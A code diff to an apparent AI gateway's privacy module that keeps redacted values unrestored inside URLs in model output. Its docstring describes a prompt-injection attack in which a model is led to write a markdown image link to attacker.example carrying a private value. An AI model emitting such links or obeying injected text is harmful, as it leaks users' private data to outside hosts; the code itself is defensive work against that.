@@ -2,9 +2,9 @@
 
 A prompt injection can ask the model to write ``![](https://attacker.example/?q=<PERSON_1>)``; a
 client that renders markdown would then send the restored value to that host. So text from a
-``://`` (or ``(//``) to the end of the URL (white space or any character a URL cannot hold raw) is
-passed through unrestored. The same character-by-character rule serves whole answers and streams,
-so both give the same text.
+``//`` that starts a URL to the end of it (white space, a closing quote or bracket, or Japanese
+sentence punctuation) is passed through unrestored. The same character-by-character rule serves
+whole answers and streams, so both give the same text.
 """
 
 from __future__ import annotations
@@ -14,10 +14,12 @@ from collections.abc import Mapping
 
 from gateway.privacy.restore import StreamRestorer
 
-_LINK_START = re.compile(r"(?::|\()//")
-# A URL ends at white space or at a character outside printable ASCII (full-width forms, which a
-# model may use for a placeholder's brackets, count as part of it).
-_LINK_END = re.compile(r"[^\x21-\x7e\uff01-\uff5e]")
+# "//" (or JSON's "\/\/") not glued to a letter or digit: https://, (//, src=//, ": //".
+_LINK_START = re.compile(r"(?<![A-Za-z0-9])(?://|\\/\\/)")
+# A URL ends at white space, a closing quote or bracket, or Japanese sentence punctuation. Anything
+# else (kanji, 【】, ＜＞) may sit inside a URL a browser would still fetch, so it stays unrestored.
+_LINK_END = re.compile(r"[\s)\"'\u3000。、，（）「」『』]")
+_CONTEXT = 3  # characters kept to see a link start split across deltas
 
 
 class LinkAwareRestorer:
@@ -26,7 +28,7 @@ class LinkAwareRestorer:
     def __init__(self, vault: Mapping[str, str]) -> None:
         self._restorer = StreamRestorer(vault)
         self._in_link = False
-        self._recent = ""  # the last two characters outside links, to see a link start split across deltas
+        self._recent = ""  # the last characters outside links, to see a link start split across deltas
 
     def feed(self, delta: str) -> str:
         """Take the next delta; return what can be released now."""
@@ -43,7 +45,7 @@ class LinkAwareRestorer:
             start = _LINK_START.search(seen)
             if start is None:
                 out.append(self._restorer.feed(delta))
-                self._recent = seen[-2:]
+                self._recent = seen[-_CONTEXT:]
                 break
             cut = start.end() - len(self._recent)  # the link's text begins after "://"
             out.append(self._restorer.feed(delta[:cut]))
